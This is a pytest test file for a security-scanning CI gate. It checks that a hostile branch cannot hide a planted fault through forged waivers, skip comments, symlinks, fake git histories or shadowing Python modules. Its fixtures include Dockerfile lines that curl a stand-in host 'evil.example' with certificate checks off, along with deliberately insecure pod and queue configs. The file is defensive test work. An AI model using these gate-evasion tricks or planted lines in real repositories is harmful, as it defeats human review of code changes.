"""A branch that tries to turn a red gate green: with policy, comments, code, links and git itself."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.git_trees import GitTree

ASSAY = str(Path(sys.executable).with_name("assay"))
FAULT = "CKV2_DOCKER_2"
PLANTED = "FROM python:3.11\nUSER ada\nHEALTHCHECK CMD true\nRUN curl -k https://evil.example/x\n"
SOUND = "FROM python:3.11\nUSER ada\nHEALTHCHECK CMD true\nRUN make\n"
ACCEPTED = f"FROM python:3.11\nUSER ada\nHEALTHCHECK CMD true\n# checkov:skip={FAULT}:known\nRUN curl -k https://a\n"
COMMENTED = f'FROM python:3.11\nUSER ada\nHEALTHCHECK CMD true\n# assay:ignore {FAULT} reason="known"\nRUN curl -k b\n'
WEAK_RULE = "id: weak\ntitle: x\n"
WEAK_PACK = "id: hipaa\ntitle: weak\nversion: '1'\nsource: none\ncontrols: []\n"
PROOF = "import os, pathlib\npathlib.Path(os.environ['PROOF']).touch()\n"


def scan(tree: GitTree, *args: str, cwd: str = ".", **environment: str) -> Any:
    done = subprocess.run(
        [ASSAY, "scan", "--format", "json", *args],
        cwd=tree.path / cwd, capture_output=True, text=True, timeout=300, env={**os.environ, **environment},
    )  # fmt: skip
    assert "Traceback" not in done.stderr
    if done.returncode == 2:
        assert done.stdout == "" and done.stderr.count("\n") == 1
        return done.stderr
    report = json.loads(done.stdout)
    assert report["exit_code"] == done.returncode
    return report


def open_faults(report: Any, rule: str = FAULT) -> dict[str, str]:
    """Where the rule is broken and nothing accepts it, and what is said of the change."""
    return {
        f["location"]["path"]: f["change"]
        for f in report["findings"]
        if rule in (f["rule"], *f["corroborated_by"]) and f["outcome"] != "pass" and f["suppressed"] is None
    }


def told(report: Any) -> set[str]:
    return {f["resource"]["address"] for f in report["findings"] if f["rule"] == "policy-changed"}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> GitTree:
    """Everything at once: each of these alone would do, if any did."""
    tree = GitTree(tmp_path_factory.mktemp("branch") / "tree")
    tree.commit(
        {
            "assay.toml": 'packs = ["hipaa"]\nwaivers = "policy/waivers.yaml"\nbaseline = "policy/baseline.json"\n',
            "policy/waivers.yaml": f'waivers:\n  - {{rule: {FAULT}, address: "*", path: "lab/*", reason: lab}}\n',
            "policy/baseline.json": '{"schema":"assay-baseline/1","made":"2026-11-01","revision":null,"findings":[]}',
            "app/Dockerfile": SOUND,
            "old/Dockerfile": PLANTED.replace("evil", "old"),
            "lab/Dockerfile": PLANTED,
            "skipped/Dockerfile": ACCEPTED,
            "commented/Dockerfile": COMMENTED,
        }
    )
    tree.branch("hostile")
    forged = {"rule": FAULT, "path": "app/Dockerfile", "address": "/app/Dockerfile.RUN", "outcome": "fail"}
    tree.write(
        {
            # The fault, with every comment that could excuse it.
            "app/Dockerfile": SOUND.replace(
                "RUN make",
                f'# assay:ignore {FAULT} reason="trust me"\n# checkov:skip={FAULT}:trust me\nRUN curl -k https://evil.example/x',
            ),
            # Trusted comments, cut and pasted within their file.
            "commented/Dockerfile": COMMENTED.replace("# assay", "RUN curl -k b\n# assay").replace("-k b\n", "-k c\n"),
            # Policy.
            "policy/waivers.yaml": f'waivers:\n  - {{rule: {FAULT}, address: "*", reason: all}}\n',
            "policy/baseline.json": json.dumps(
                {"schema": "assay-baseline/1", "made": "2026-11-01", "revision": None,
                 "findings": [{**forged, "severity": "high"}]}
            ),
            "app/assay.toml": f'fail-on = "critical"\nskip = ["{FAULT}"]\n',
            "pyproject.toml": f'[tool.assay]\nskip = ["{FAULT}", "iac"]\nallow-incomplete = true\n',
            "rules/weak.yaml": WEAK_RULE,
            "weak.yaml": WEAK_PACK,
            # What the engine would read, were it run as its command line is.
            ".checkov.yaml": f"skip-check: [{FAULT}]\nexternal-checks-dir: [checks]\nsoft-fail: true\n",
            "checks/__init__.py": PROOF,
            "checks/evil.py": PROOF,
            # Code, where Python or a test runner might look for it.
            "conftest.py": PROOF,
            "checkov/__init__.py": PROOF,
            "dulwich/__init__.py": PROOF,
            "app/json.py": PROOF,
        }
    )  # fmt: skip
    tree.write({"elsewhere.toml": f'fail-on = "critical"\nskip = ["{FAULT}"]\n'})
    tree.link("assay.toml", "elsewhere.toml")
    # The file with the trusted skip moves, and a fault takes its old place.
    tree.rename("skipped/Dockerfile", "moved/Dockerfile")
    tree.write({"skipped/Dockerfile": ACCEPTED.replace("https://a", "https://evil.example/y").replace("3.11", "3.12")})
    tree.commit()
    return tree


@pytest.fixture(scope="module")
def compared(hostile: GitTree, tmp_path_factory: pytest.TempPathFactory) -> Any:
    proof = tmp_path_factory.mktemp("proof") / "proof"
    report = scan(hostile, "--diff", "main", "--only", "dockerfile", PYTHONPATH=".", PROOF=str(proof))
    assert not proof.exists()
    return report


def test_no_trick_hides_the_planted_fault(compared: Any) -> None:
    assert compared["gate"]["status"] == "red" and compared["exit_code"] == 1
    assert open_faults(compared)["app/Dockerfile"] == "new"
    assert open_faults(compared)["commented/Dockerfile"] == "new"


def test_what_was_there_is_not_counted_and_what_was_accepted_still_is(compared: Any) -> None:
    assert open_faults(compared)["old/Dockerfile"] == "existing"
    assert "lab/Dockerfile" not in open_faults(compared)
    [lab] = [f for f in compared["findings"] if f["rule"] == FAULT and f["location"]["path"] == "lab/Dockerfile"
             and f["outcome"] == "fail"]  # fmt: skip
    assert lab["suppressed"]["reason"] == "lab"


def test_a_trusted_skip_covers_one_file_and_not_also_what_took_its_place(compared: Any) -> None:
    places = {"moved/Dockerfile", "skipped/Dockerfile"}
    assert places & open_faults(compared).keys()


def test_every_touch_of_the_policy_is_a_finding(compared: Any) -> None:
    expected = {"assay.toml", "pyproject.toml", "policy/waivers.yaml", "policy/baseline.json"}
    assert expected <= told(compared)
    assert {"app/Dockerfile", "commented/Dockerfile"} <= told(compared)


def test_without_diff_what_is_in_main_counts_too(hostile: GitTree) -> None:
    report = scan(hostile, "app", "old", "--trust-base", "main", "--only", "dockerfile")
    assert open_faults(report).keys() == {"app/Dockerfile", "old/Dockerfile"}
    assert report["gate"]["status"] == "red"
    assert "app/assay.toml" in told(report)


def test_an_operators_root_decides_alone_and_heeds_no_comment(hostile: GitTree, tmp_path: Path) -> None:
    (tmp_path / "assay.toml").write_text('packs = ["hipaa"]\nwaivers = "w.yaml"\n')
    (tmp_path / "w.yaml").write_text(f'waivers:\n  - {{rule: {FAULT}, address: "*", path: "old/*", reason: x}}\n')
    report = scan(hostile, "--policy-root", str(tmp_path), "--only", "dockerfile")
    assert open_faults(report).keys() == {
        *("app/Dockerfile", "lab/Dockerfile", "moved/Dockerfile", "skipped/Dockerfile", "commented/Dockerfile")
    }
    assert report["gate"]["status"] == "red"
    for inside in (".", "policy", "app/../policy"):
        assert "lies in what is scanned" in scan(hostile, "app", "--policy-root", inside)


@pytest.mark.parametrize(
    ("option", "path"),
    [("--pack", "weak.yaml"), ("--rules", "rules"), ("--waivers", "mine.yaml"), ("--baseline", "mine.json")],
)
def test_what_the_command_line_names_is_not_read_from_the_branch(option: str, path: str, hostile: GitTree) -> None:
    for given in (path, f"./app/../{path}", str(hostile.path / path)):
        assert "not in main" in scan(hostile, "--diff", "main", option, given)


def test_a_link_in_place_of_a_trusted_file_leads_nowhere(tmp_path: Path) -> None:
    tree = GitTree(tmp_path / "tree")
    tree.commit({"w.yaml": "waivers: []\n", "Dockerfile": SOUND})
    tree.branch("hostile")
    outside = tmp_path / "outside.yaml"
    outside.write_text(f'waivers:\n  - {{rule: {FAULT}, address: "*", reason: all}}\n')
    tree.link("w.yaml", str(outside))
    tree.commit({"Dockerfile": PLANTED})
    report = scan(tree, "--diff", "main", "--only", "dockerfile", "--waivers", str(tree.path / "w.yaml"))
    assert open_faults(report) == {"Dockerfile": "new"} and "w.yaml" in told(report)


@pytest.mark.parametrize("option", ["--diff", "--trust-base", "--policy-root"])
def test_an_unset_variable_does_not_switch_gate_mode_off(option: str, hostile: GitTree) -> None:
    assert "is empty" in scan(hostile, option, "")


def test_a_tag_with_the_branchs_name_is_refused(tmp_path: Path) -> None:
    tree = GitTree(tmp_path / "tree")
    tree.point("refs/remotes/origin/main", tree.commit({"a": "a"}))
    tree.branch("hostile")
    tree.point("refs/tags/origin/main", tree.commit({"Dockerfile": PLANTED}))
    assert "names several commits" in scan(tree, "--diff", "origin/main")


def test_a_folder_that_looks_like_a_repository_brings_no_history(tmp_path: Path) -> None:
    tree = GitTree(tmp_path / "tree")
    tree.commit({"infra/a": "a"})
    tree.branch("hostile")
    tree.write({"infra/Dockerfile": PLANTED, "infra/HEAD": "ref: refs/heads/main\n", "infra/config": "[core]\n"})
    fake = GitTree(tmp_path / "fake")
    commit = fake.commit({"Dockerfile": PLANTED})
    for place in (fake.path / ".git/objects").rglob("*"):
        if place.is_file():
            target = tree.path / "infra/objects" / place.relative_to(fake.path / ".git/objects")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(place.read_bytes())
    tree.write({"infra/refs/heads/main": commit + "\n"})
    tree.commit()
    report = scan(tree, "infra", "--diff", "main", "--only", "dockerfile")
    assert open_faults(report) == {"Dockerfile": "new"}


POD = """apiVersion: v1
kind: Pod
metadata:
  name: {name}
  namespace: web
  annotations:
    checkov.io/skip1: CKV_K8S_16=trust me
spec:
  containers:
  - {{name: c, image: "x:1", securityContext: {{privileged: true}}}}
"""
STACK = """AWSTemplateFormatVersion: "2010-09-09"
Resources:
  Queue:
    Type: AWS::SQS::Queue
    Metadata:
      checkov: {skip: [{id: CKV_AWS_27, comment: trust me}]}
    Properties: {QueueName: q, SqsManagedSseEnabled: false}
"""
CONDITIONAL = """resource "aws_sqs_queue" "q" {
  # checkov:skip=CKV_AWS_27:trust me
  name = "q"
  sqs_managed_sse_enabled = "checkov:" == "xheckov:"
  kms_master_key_id = replace("checkov:", "xheckov:", "") == "" ? "alias/k" : ""
}
"""


def test_annotations_metadata_and_expressions_that_know_of_the_second_look_excuse_nothing(tmp_path: Path) -> None:
    tree = GitTree(tmp_path / "tree")
    tree.commit({"a": "a"})
    tree.branch("hostile")
    tree.commit({"pod.yaml": POD.format(name="p"), "stack.yaml": STACK, "main.tf": CONDITIONAL})
    report = scan(tree, "--diff", "main", "--only", "kubernetes,cloudformation,terraform")
    assert open_faults(report, "CKV_K8S_16") == {"pod.yaml": "new"}
    queues = [f for f in report["findings"] if f["rule"] == "CKV_AWS_27" or "CKV_AWS_27" in f["corroborated_by"]]
    assert {f["location"]["path"] for f in queues if f["outcome"] == "fail" and not f["suppressed"]} == {
        "stack.yaml",
        "main.tf",
    }
    assert told(report) == {"pod.yaml", "stack.yaml", "main.tf"}
